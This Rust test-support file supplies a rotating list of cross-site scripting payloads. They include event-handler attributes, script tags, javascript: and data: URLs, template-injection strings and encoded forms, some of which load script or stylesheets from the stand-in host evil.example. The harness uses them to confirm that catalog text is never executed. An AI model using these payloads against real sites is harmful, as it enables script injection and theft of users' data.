//! Texts that would run a script if any text of a catalog were ever treated as code. Each sets `ran`.

use std::env;
use std::io::{self, Write};
use std::sync::OnceLock;
use std::time::{SystemTime, UNIX_EPOCH};

use xtask::engine::Engine;

use crate::harness::engine;

/// Events that a browser fires by itself, or as soon as a pointer moves over a page.
const EVENTS: [&str; 24] = [
    "error",
    "load",
    "focus",
    "blur",
    "click",
    "mouseover",
    "mouseenter",
    "pointerover",
    "pointermove",
    "toggle",
    "beforetoggle",
    "animationstart",
    "animationend",
    "transitionend",
    "begin",
    "scroll",
    "wheel",
    "input",
    "keydown",
    "pageshow",
    "hashchange",
    "popstate",
    "resize",
    "loadstart",
];

/// Elements with placeholders for an event's name and its script.
const ELEMENTS: [&str; 6] = [
    "<img src=x on{event}=ran=1>",
    "<svg on{event}=ran=1>",
    "\" autofocus tabindex=0 on{event}=\"ran=1",
    "' autofocus tabindex=0 on{event}='ran=1",
    "<details open on{event}=ran=1>",
    "</p><input autofocus on{event}=ran=1 x=\"",
];

/// Other ways to start a script.
const OTHERS: [&str; 72] = [
    "<script>ran=1</script>",
    "<SCRIPT>ran=1</SCRIPT>",
    "<scr<script>ipt>ran=1</scr</script>ipt>",
    "<script src=data:,ran=1></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>ran=1</script>",
    "<script/x>ran=1</script>",
    "<script >ran=1</script >",
    "</script><script>ran=1</script>",
    "</title><script>ran=1</script>",
    "</textarea><script>ran=1</script>",
    "</style><script>ran=1</script>",
    "</template><script>ran=1</script>",
    "</noscript><script>ran=1</script>",
    "--><script>ran=1</script>",
    "<!--><script>ran=1</script>-->",
    "<![CDATA[<script>ran=1</script>]]>",
    "]]><script>ran=1</script>",
    "?><script>ran=1</script>",
    "\"><script>ran=1</script>",
    "'><script>ran=1</script>",
    "`><script>ran=1</script>",
    "\\\"><script>ran=1</script>",
    "\"/><script>ran=1</script>",
    "\"};ran=1;//",
    "';ran=1;//",
    "`;ran=1;//",
    "\\\";ran=1;//",
    "*/ran=1/*",
    "${ran=1}",
    "{{ran=1}}",
    "{{constructor.constructor('ran=1')()}}",
    "#{ran=1}",
    "<%= ran=1 %>",
    "[[${ran=1}]]",
    "(()=>{ran=1})()",
    "javascript:ran=1",
    "JaVaScRiPt:ran=1",
    "javascript&colon;ran=1",
    "java&Tab;script:ran=1",
    "&#106;avascript:ran=1",
    "data:text/html,<script>parent.ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
    "vbscript:ran=1",
    "<a href=javascript:ran=1>x</a>",
    "<a href=\"java&#10;script:ran=1\">x</a>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<object data=javascript:ran=1></object>",
    "<embed src=javascript:ran=1>",
    "<form action=javascript:ran=1><button>x</button></form>",
    "<button formaction=javascript:ran=1 form=x>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:ran=1\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>ran=1</script>>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<style>*{background:url(javascript:ran=1)}</style>",
    "\" style=\"background:url(javascript:ran=1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<svg><a xlink:href=javascript:ran=1><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:ran=1>",
    "<svg><use href=\"data:image/svg+xml,<svg onload=ran=1>\">",
    "<svg><foreignObject><iframe src=javascript:parent.ran=1>",
    "<template><script>ran=1</script></template>",
    "<marquee onstart=ran=1>",
    "<video><source onerror=ran=1>",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;script&#62;ran=1&#60;/script&#62;",
    "%3Cscript%3Eran=1%3C/script%3E",
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
];

/// The number of days over which all of them are tried in an engine that gets a part of them each day.
const DAYS: u64 = 6;

/// Selects the part; a run prints it so that it can be repeated.
const SEED: &str = "QUAYSIDE_SEED";
/// Makes every engine try all of them.
const EVERY_ENGINE: &str = "QUAYSIDE_EVERY_ENGINE";

/// All of them.
fn all() -> impl Iterator<Item = String> {
    let on_event = ELEMENTS.iter().flat_map(|element| EVENTS.map(|event| element.replace("{event}", event)));
    OTHERS.map(str::to_owned).into_iter().chain(on_event)
}

/// Those that this engine tries: all of them in Chromium, elsewhere those of the day.
pub fn payloads() -> Vec<String> {
    static PART: OnceLock<Option<u64>> = OnceLock::new();
    let is_whole = engine() == Engine::Chromium || env::var_os(EVERY_ENGINE).is_some();
    let part = *PART.get_or_init(|| (!is_whole).then(seed));
    let chosen: Vec<String> = all()
        .enumerate()
        .filter(|&(at, _)| part.is_none_or(|seed| is_of_part(at, seed)))
        .map(|(_, payload)| payload)
        .collect();
    let least = if part.is_none() { 200 } else { 200 / DAYS as usize };
    assert!(chosen.len() >= least, "{}", chosen.len());
    chosen
}

/// Whether a payload belongs to the part that a seed selects. The number of events is a multiple of the number of
/// parts, so the parts are shifted from element to element: each has some of every event.
fn is_of_part(at: usize, seed: u64) -> bool {
    (at + at / EVENTS.len()) as u64 % DAYS == seed % DAYS
}

/// The given seed, or else the number of the day; prints how to repeat it, once per process.
fn seed() -> u64 {
    let seed = match env::var(SEED) {
        Ok(named) => named.parse().unwrap_or_else(|error| panic!("{SEED}={named}: {error}")),
        Err(_) => {
            let since = SystemTime::now().duration_since(UNIX_EPOCH).expect("it is after 1970");
            since.as_secs() / 86_400
        }
    };
    let said = format!(
        "Trying a sixth of the hostile payloads; for the same sample again: {SEED}={seed}, for all: {EVERY_ENGINE}=1\n"
    );
    // Not by a macro, whose output is only shown for failed tests.
    io::stderr().write_all(said.as_bytes()).expect("there is somewhere to say it");
    seed
}

#[test]
fn every_payload_is_tried_within_so_many_days() {
    for (at, payload) in all().enumerate() {
        let parts = (0..DAYS).filter(|&seed| is_of_part(at, seed)).count();
        assert_eq!(parts, 1, "{payload}");
    }
    for seed in 0..DAYS {
        let part: Vec<String> =
            all().enumerate().filter(|&(at, _)| is_of_part(at, seed)).map(|it| it.1).collect();
        let missing =
            EVENTS.iter().find(|event| !part.iter().any(|payload| payload.contains(&format!("on{event}="))));
        assert_eq!(missing, None, "in part {seed}");
    }
}
